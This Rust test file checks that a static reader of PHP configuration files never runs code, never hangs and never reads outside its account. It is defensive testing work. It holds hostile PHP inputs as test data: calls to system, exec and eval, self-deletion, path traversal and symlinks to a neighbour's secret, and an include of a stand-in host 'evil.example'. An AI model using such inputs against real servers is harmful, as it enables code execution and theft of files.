//! Hostile configurations: nothing runs, nothing hangs, nothing ends the process, nothing outside is read.

use std::fs;
use std::os::unix::fs::symlink;

use proptest::prelude::*;

use super::*;

const MIB: usize = 1 << 20;

fn filled(start: &str, unit: &str, end: &str) -> Vec<u8> {
    let count = (MIB - 100 - start.len() - end.len()) / unit.len();
    [start.as_bytes(), unit.repeat(count).as_bytes(), end.as_bytes()].concat()
}

#[test]
fn deep_and_long_files_end_in_an_answer() {
    let shapes: &[(&str, &str, &str)] = &[
        ("<?php $x = ", "(", ";"),
        ("<?php $x = ", "[", ";"),
        ("<?php ", "{", ""),
        ("<?php $x = ", "!", "1;"),
        ("<?php $x = ", "-", "1;"),
        ("<?php ", "$", "x;"),
        ("<?php $x = 'a'", " . 'a'", ";"),
        ("<?php $x = 1", " + 1", ";"),
        ("<?php $x = $a", " ?? $a", ";"),
        ("<?php $x = $a", " ? 1 : $a", ";"),
        ("<?php $x", "->a", ";"),
        ("<?php $x", "['a']", " = 1;"),
        ("<?php ", "$a = ", "1;"),
        ("<?php ", "if (1) ", ";"),
        ("<?php if (1) ;", " else if (1) ;", ""),
        ("<?php if (1) {}", " elseif ($_GET) { $a = 1; }", ""),
        ("<?php function f(", "?", "A $x) {}"),
        ("<?php function f(A", "|A", " $x) {}"),
        ("<?php $x = ", "new ", "A;"),
        ("<?php $x = ", "fn() => ", "1;"),
        ("<?php $x = \"", "{$a[\"", ""),
        ("<?php $x = \"", "$a", "\";"),
        ("<?php $x = ", "<<<A\n", ""),
        ("<?php ", "a: ", ""),
        ("<?php ", "#[A] ", "class B {}"),
        ("<?php $x = [", "1,", "];"),
        ("<?php ", "/*", ""),
        ("<?php ", "$a .= 'x';", ""),
        ("<?php ", "$a = $a . $a;", ""),
        ("<?php $a = 'xxxxxxxx'; ", "$a = $a . $a;", ""),
        ("<?php $a = []; ", "$a = [$a, $a];", ""),
        ("<?php ", "$a[] = $a;", ""),
        ("<?php ", "if ($_GET) { $a = 1; } ", ""),
        ("<?php ", "while ($_GET) ", ";"),
        ("<?php ", "foreach ([1,2,3] as $a) ", ";"),
        ("<?php $x = ", "match(1) { default => ", "1"),
        ("", "<?php ?>", ""),
        ("<?php ", "\0", ""),
        ("<?php ", "\u{feff}", ""),
        ("<?php $x = ", "clone ", "$a;"),
        ("<?php ", "namespace A;", ""),
        ("<?php ", "declare(ticks=1) ", ";"),
        ("<?php $x = ", "@include ", "'x';"),
        ("<?php ", "function f() {", ""),
        ("<?php ", "static function() { yield ", ""),
    ];
    for (start, unit, end) in shapes {
        // The answer itself does not matter: that there is one does.
        let _ = inline(&filled(start, unit, end));
    }
}

#[test]
fn expressions_nested_in_texts_are_bounded() {
    // Found by the shapes above: below the limit the lexer's own recursion must still fit.
    let nested = format!("<?php $x = \"{}", "{$a[\"".repeat(990));
    assert_eq!(inline(nested.as_bytes()).unwrap_err().obstacle, Obstacle::BeyondLimits);
    let nested = filled(&nested, " ", "");
    assert!(inline(&nested).is_err());
}

#[test]
fn a_file_beyond_the_limit_is_refused() {
    let error = inline(&vec![b' '; MIB + 1]).unwrap_err();
    assert_eq!(error.obstacle, Obstacle::BeyondLimits);
    let error = inline(&filled("<?php $x = ", "(", ";")).unwrap_err();
    assert_eq!(error.obstacle, Obstacle::BeyondLimits);
}

#[test]
fn a_long_honest_file_is_read() {
    let mut source = b"<?php return [".to_vec();
    for number in 0..8000 {
        source.extend(format!("'key{number}' => ['a' => 'text {number}', 'b' => [1, 2]],\n").bytes());
    }
    source.extend(b"];");
    let config = inline(&source).unwrap();
    assert_eq!(config.at(&["key7999", "a"]).to_text().as_deref(), Some(&b"text 7999"[..]));
    let config = inline(&filled("<?php define('A', 'x'", " . 'y'", ");")[..100_000]);
    assert!(config.is_err(), "cut in the middle, this is no PHP");
    let chain = format!("<?php define('A', 'x'{});", " . 'y'".repeat(5000));
    assert_eq!(text(&inline(chain.as_bytes()).unwrap(), "A").unwrap().len(), 5001);
}

#[test]
fn code_is_never_run() {
    let shop = Shop::empty();
    let canary = shop.root.join("canary");
    let touch = format!("touch {}", canary.display());
    shop.write(
        "config.php",
        format!(
            "<?php\n$a = `{touch}`;\nsystem('{touch}'); exec('{touch}'); passthru('{touch}');\n\
             eval('define(\"B\", \"evil\"); touch(\"{0}\");');\nfile_put_contents('{0}', 'x'); touch('{0}');\n\
             $f = 'system'; $f('{touch}'); (function() {{ touch('{0}'); }})();\n\
             array_map('system', ['{touch}']); unlink(__FILE__); rename(__FILE__, '{0}');\n\
             define('A', `id`); define('C', 'stated');\n",
            canary.display()
        ),
    );
    let folder = Folder::open(&shop.root).unwrap();
    let config = read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).unwrap();
    assert!(!canary.exists());
    assert!(shop.root.join("config.php").exists());
    assert_eq!(text(&config, "A"), None);
    assert_eq!(text(&config, "B"), None);
    assert_eq!(text(&config, "C").as_deref(), Some("stated"));
    assert!(!config.constant("C").assumptions().is_empty(), "eval may have defined it before");
}

#[test]
fn endless_includes_end() {
    let shop = Shop::empty();
    shop.write("config.php", "<?php define('A', 'a'); include 'other.php';");
    shop.write("other.php", "<?php include 'config.php'; include 'config.php';");
    let folder = Folder::open(&shop.root).unwrap();
    let error = read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).unwrap_err();
    assert_eq!(error.obstacle, Obstacle::BeyondLimits);
    shop.write("config.php", "<?php define('A', 'a'); include_once __FILE__; define('B', 'b');");
    let config = read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).unwrap();
    assert_eq!(text(&config, "B").as_deref(), Some("b"));
}

#[test]
fn files_outside_the_account_are_not_read() {
    let shop = Shop::empty();
    let outside = shop.account().parent().unwrap().parent().unwrap().join("neighbour");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("secret.php"), "<?php define('A', 'stolen');").unwrap();
    let path = outside.join("secret.php").display().to_string();
    symlink(outside.join("secret.php"), shop.root.join("link.php")).unwrap();
    for include in [
        format!("'{path}'"),
        "'../../../neighbour/secret.php'".to_owned(),
        "__DIR__ . '/link.php'".to_owned(),
    ] {
        shop.write(
            "config.php",
            format!("<?php include {include}; define('B', file_get_contents('{path}'));"),
        );
        let folder = Folder::open(&shop.root).unwrap();
        let config = read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).unwrap();
        assert_eq!(text(&config, "A"), None, "{include}");
        assert_eq!(text(&config, "B"), None, "{include}");
        assert!(config.constant("A").why_unknown().unwrap().contains("neighbour"), "{include}");
    }
    shop.write(
        "config.php",
        "<?php include '/dev/zero'; include 'php://input'; include 'http://evil.example/x';",
    );
    let folder = Folder::open(&shop.root).unwrap();
    assert!(read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).is_ok());
    fs::remove_file(shop.root.join("config.php")).unwrap();
    symlink(outside.join("secret.php"), shop.root.join("config.php")).unwrap();
    let error = read(&Reading::new(&folder, &NoEnvironment), &folder.at("config.php")).unwrap_err();
    assert_eq!(error.obstacle, Obstacle::NotOurs);
}

#[test]
fn a_syntax_error_is_said_with_its_line() {
    let error = inline(b"<?php\ndefine('A', 'a');\ndefine('B', 'unclosed);\n").unwrap_err();
    assert_eq!(error.obstacle, Obstacle::Malformed);
    assert!(error.why.contains("line 3"), "{}", error.why);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_bytes_end_in_an_answer(source in prop::collection::vec(any::<u8>(), 0..400)) {
        let _ = inline(&[b"<?php ", source.as_slice()].concat());
    }

    #[test]
    fn any_mix_of_tokens_ends_in_an_answer(
        tokens in prop::collection::vec(prop::sample::select(vec![
            "define", "(", ")", "'A'", ",", ";", "$x", "=", "if", "else", "{", "}", "[", "]", "=>", ".", "?", ":", "return",
            "include", "foreach", "as", "getenv", "??", "?:", "\"$x\"", "array", "function", "f", "1", "match", "default",
            "switch", "case", "while", "!", "&&", "||", "exit", "static", "fn", "new", "class", "<<<A\n", "\nA\n", "?>",
        ]), 0..60),
    ) {
        let _ = inline(format!("<?php {}", tokens.join(" ")).as_bytes());
    }

    #[test]
    fn quoted_texts_come_back(bytes in prop::collection::vec(any::<u8>(), 0..60)) {
        let quoted: Vec<u8> = bytes.iter().flat_map(|byte| match byte {
            b'\'' | b'\\' => vec![b'\\', *byte],
            other => vec![*other],
        }).collect();
        let source = [b"<?php define('A', '", quoted.as_slice(), b"');"].concat();
        let config = inline(&source).unwrap();
        prop_assert_eq!(config.constant("A").to_text().unwrap().to_vec(), bytes.clone());
        let escaped: String = bytes.iter().map(|byte| format!("\\x{byte:02x}")).collect();
        let config = inline(format!("<?php define('A', \"{escaped}\");").as_bytes()).unwrap();
        prop_assert_eq!(config.constant("A").to_text().unwrap().to_vec(), bytes.clone());
    }
}
